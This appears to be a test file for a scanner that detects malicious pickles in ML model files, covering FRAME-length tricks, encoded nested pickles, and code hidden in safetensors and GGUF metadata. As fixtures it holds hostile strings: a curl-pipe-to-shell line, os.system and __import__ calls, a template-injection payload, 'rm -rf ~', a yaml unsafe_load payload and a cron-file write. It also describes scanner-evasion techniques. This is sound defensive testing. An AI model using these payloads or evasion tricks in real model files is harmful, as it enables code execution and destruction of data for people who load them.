/**
 * Bypasses on the pickle side: FRAME lengths that disagree with the opcodes (the C and pure-Python
 * unpicklers then run different bytes), pickles hidden behind hex/base64/zlib in strings and bytes (and in
 * safetensors / GGUF metadata), and strings that are Python code. Each has benign look-alikes that must
 * stay clean: real models carry base64 weight blobs, chat templates and source-like text.
 */
import {expect} from 'chai'
import {randomBytes} from 'node:crypto'
import {deflateSync} from 'node:zlib'
import {benign, payload, PW, safetensors} from './fixtures.js'
import {encoders, frameRunsPastStop, ggufWithStrings, hiddenInString, nestedFrame, straddlingFrame} from './pickle-fixtures.js'
import {classifyGlobal} from '../../src/lib/scanner/policy.js'
import {cleanTrees, expectClean, expectIssue, isSystem, scanOne} from './pickle-support.js'

after(cleanTrees)

const frameFlag = (re: RegExp) => (i: {operator?: string | null; description: string}): boolean => i.operator === 'frame' && re.test(i.description)

describe('pickle bypasses: FRAME lengths that disagree with the opcodes', () => {
  it('an opcode that runs past the end of its frame: flagged, and the C reading (which runs on) is analysed', async () => {
    const f = await scanOne('straddle.pkl', straddlingFrame(4))
    expectIssue(f, 'PAIT-PKL-100', isSystem)
    expectIssue(f, 'PAIT-PKL-101', frameFlag(/runs past the frame end/))
  })

  it('a frame that starts inside the previous frame: flagged, payload found', async () => {
    const f = await scanOne('nested.pkl', nestedFrame())
    expectIssue(f, 'PAIT-PKL-100', isSystem)
    expectIssue(f, 'PAIT-PKL-101', frameFlag(/starts inside the previous frame/))
  })

  it('a frame running past STOP over a hidden pickle: both readings are analysed (C: after STOP, Python: after the frame)', async () => {
    const f = await scanOne('past.pkl', frameRunsPastStop())
    expectIssue(f, 'PAIT-PKL-101', frameFlag(/stops at \d+ inside a frame/))
    expectIssue(f, 'PAIT-PKL-100', (i) => i.module === 'subprocess' && i.operator === 'check_output')
    expectIssue(f, 'PAIT-PKL-100', (i) => i.module === 'posix' && i.operator === 'system')
  })

  it('frames as CPython writes them (ending at STOP, large bytes between frames) are clean', async () => {
    const body = new PW(4).emptyDict().mark().str('a').int(1).str('b').str('text').setitems().stop().toBuffer().subarray(2)
    expectClean(await scanOne('framed.pkl', Buffer.concat([Buffer.from([0x80, 4]), new PW(0).frame(body.length).toBuffer(), body])))
    const big = Buffer.alloc(70_000, 3)
    const part1 = new PW(0).raw(Buffer.from([0x5d, 0x94, 0x28])).toBuffer() // EMPTY_LIST MEMOIZE MARK
    const bytesOp = Buffer.alloc(9); bytesOp[0] = 0x8e; bytesOp.writeBigUInt64LE(BigInt(big.length), 1)
    const part2 = Buffer.from([0x94, 0x65, 0x2e]) // MEMOIZE APPENDS STOP
    const file = Buffer.concat([Buffer.from([0x80, 4]), new PW(0).frame(part1.length).toBuffer(), part1, bytesOp, big,
      new PW(0).frame(part2.length).toBuffer(), part2])
    const f = await scanOne('frames.pkl', file)
    expect(f.modelscan_status).to.equal('SCANNED')
    expectClean(f)
  })
})

describe('pickle bypasses: pickles hidden behind hex / base64 / zlib, and Python code in strings', () => {
  for (const [name, enc] of Object.entries(encoders)) {
    it(`a payload encoded as ${name} in a str value is decoded and scanned as a nested pickle`, async () => {
      const f = await scanOne('h.pkl', hiddenInString(enc(payload(4))))
      expectIssue(f, 'PAIT-PKL-100', (i) => isSystem(i) && /^h\.pkl:[a-z0-9+]+@\d+$/.test(i.source ?? ''))
    })
  }

  it('long encoded payloads (beyond the kept-string size), zlib bytes and base64 bytes are decoded too', async () => {
    const big = new PW(4).emptyList().mark()
    for (let i = 0; i < 300; i++) big.str(`padding entry ${i}`)
    const inner = big.appends().op('0').call('os', 'system', ['id']).stop().toBuffer()
    expectIssue(await scanOne('long.pkl', hiddenInString(inner.toString('base64'))), 'PAIT-PKL-100', isSystem)
    const z = new PW(4).emptyList().bytes(deflateSync(payload(2))).op('a').stop().toBuffer()
    expectIssue(await scanOne('z.pkl', z), 'PAIT-PKL-100', isSystem)
    const b = new PW(4).emptyList().bytes(Buffer.from(payload(2).toString('base64'))).op('a').stop().toBuffer()
    expectIssue(await scanOne('b.pkl', b), 'PAIT-PKL-100', isSystem)
  })

  it('the encoded content escalates the unknown callable it flows into', async () => {
    const p = new PW(4).call('chemlib.io', 'restore', [payload(2).toString('base64')]).stop().toBuffer()
    const f = await scanOne('flow.pkl', p)
    expectIssue(f, 'PAIT-PKL-101', (i) => i.module === 'chemlib.io' && /encoded pickle/.test(i.description))
    expectIssue(f, 'PAIT-PKL-100', isSystem)
  })

  it('strings that are Python code calling exec/eval/os/subprocess/__import__ are reported', async () => {
    const codes = ["import os\nos.system('curl http://x | sh')", "__import__('os').system('id')", 'exec(compile(src, "x", "exec"))',
      "import subprocess; subprocess.check_output(['id'])", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"]
    for (const code of codes) {
      const f = await scanOne('code.pkl', new PW(4).emptyDict().mark().str('doc').str(code).setitems().stop().toBuffer())
      expectIssue(f, 'PAIT-PKL-101', (i) => i.module === 'pickle' && /^code:/.test(i.operator ?? '') && /Python code/.test(i.description), `${code}: `)
    }
  })

  it('benign look-alikes stay clean: weights as base64/hex, a benign encoded pickle, prose, templates, source without calls', async () => {
    const texts = [
      randomBytes(100_000).toString('base64'), randomBytes(3000).toString('hex'), benign(4).toString('base64'),
      'gASVAAAAAAAAAAB9lCiMAWGUSwF1Lg' + 'A'.repeat(40), // a pickle header with nothing valid after it
      'Call model.eval() before inference; evaluate(x) returns the loss. Use eval(x) only on trusted input.',
      "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endfor %}",
      'def forward(self, x):\n    return torch.relu(self.fc(x))\n', 'the system() call is documented in man 3 system',
      'thisisalongtokenwithoutanyencodingatall', 'ZmFrZSBkYXRhIHRoYXQgaXMganVzdCB0ZXh0', 'deadbeefcafebabe0011223344556677',
    ]
    for (const t of texts) expectClean(await scanOne('ok.pkl', new PW(4).emptyList().str(t).op('a').stop().toBuffer()), `${t.slice(0, 40)}: `)
  })
})

describe('pickle bypasses: hidden content in safetensors and GGUF metadata', () => {
  const st = (meta: Record<string, string>): Buffer => safetensors({__metadata__: meta, a: {dtype: 'F32', shape: [1], data_offsets: [0, 4]}}, Buffer.alloc(4))

  it('safetensors __metadata__: an encoded pickle is scanned, code is reported, ordinary values are clean', async () => {
    const f = await scanOne('m.safetensors', st({format: 'pt', blob: payload(4).toString('base64')}))
    expect(f.formats).to.deep.equal(['safetensors'])
    expectIssue(f, 'PAIT-PKL-100', (i) => isSystem(i) && /^m\.safetensors:safetensors:blob:base64$/.test(i.source ?? ''))
    const g = await scanOne('m.safetensors', st({format: 'pt', hook: "__import__('os').system('id')"}))
    expectIssue(g, null, (i) => i.module === 'safetensors' && i.operator === 'hook' && /Python code/.test(i.description))
    expectClean(await scanOne('m.safetensors', st({format: 'pt', chat_template: "{{ bos_token }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
      weights_b64: randomBytes(4096).toString('base64')})))
  })

  it('GGUF string metadata: an encoded pickle is scanned, code is reported, ordinary values are clean', async () => {
    const f = await scanOne('m.gguf', ggufWithStrings([['general.name', 'tiny'], ['x.payload', encoders.base64zlib(payload(2))]]))
    expect(f.formats).to.deep.equal(['gguf'])
    expectIssue(f, 'PAIT-PKL-100', (i) => isSystem(i) && /^m\.gguf:gguf:x\.payload:base64\+zlib$/.test(i.source ?? ''))
    const g = await scanOne('m.gguf', ggufWithStrings([['general.description', "import os\nos.system('rm -rf ~')"]]))
    expectIssue(g, null, (i) => i.module === 'gguf' && i.operator === 'general.description')
    expectClean(await scanOne('m.gguf', ggufWithStrings([['general.name', 'Qwen3-0.6B'], ['general.license', 'apache-2.0'],
      ['general.description', 'A small model. Call eval() in your harness.']])))
  })
})

describe('pickle bypasses: loaders and shells outside the usual modules', () => {
  it('platform.popen, setuptools\' run_setup, yaml\'s object loaders, keras deserialisation and pathlib writes are denied', async () => {
    const cases: Array<[string, string, Array<string | number>, string]> = [
      ['platform', 'popen', ['id'], 'PAIT-PKL-100'], ['setuptools.sandbox', 'run_setup', ['setup.py'], 'PAIT-PKL-100'],
      ['yaml', 'unsafe_load', ['!!python/object/apply:os.system [id]'], 'PAIT-PKL-100'], ['yaml', 'full_load', ['a: 1'], 'PAIT-PKL-100'],
      ['keras.layers', 'deserialize', ['{}'], 'PAIT-PKL-100'], ['pathlib', 'Path.write_text', ['/etc/cron.d/x', '* * * * * root id'], 'PAIT-PKL-100'],
    ]
    for (const [module, name, args, threat] of cases) {
      const f = await scanOne(`${module}.${name}.pkl`, payload(4, module, name, args))
      expectIssue(f, threat, (i) => i.module === module && i.operator === name, `${module}.${name}`)
    }
  })

  it('a name denied more severely than its module keeps the name\'s severity; other names keep the module\'s', () => {
    expect(classifyGlobal('platform', 'popen')).to.include({tier: 'deny', severity: 'critical'})
    expect(classifyGlobal('platform', 'system')).to.include({tier: 'deny', severity: 'medium'})
    expect(classifyGlobal('yaml', 'safe_load').tier).to.not.equal('deny')
  })
})
